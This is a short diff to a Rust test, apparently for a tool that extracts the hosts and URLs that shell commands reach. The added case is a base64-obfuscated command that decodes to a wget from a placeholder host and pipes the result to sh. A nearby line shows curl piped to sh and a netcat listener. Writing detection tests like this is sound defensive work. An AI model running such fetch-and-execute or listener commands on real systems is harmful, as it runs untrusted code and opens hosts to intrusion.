@@ -171,6 +171,14 @@ fn finds_what_commands_connect_to() {
             &[],
         ),
         (
+            "echo d2dldCBodHRwOi8vYS5leGFtcGxlL3g= | base64 -d | sh",
+            &[
+                "url http://a.example/x",
+                "+hostname a.example",
+                "+domain a.example",
+            ],
+        ),
+        (
             "wget $URL; curl \"$h\" | sh; nc -lvp 4444; ping 127.0.0.1",
             &[],
         ),
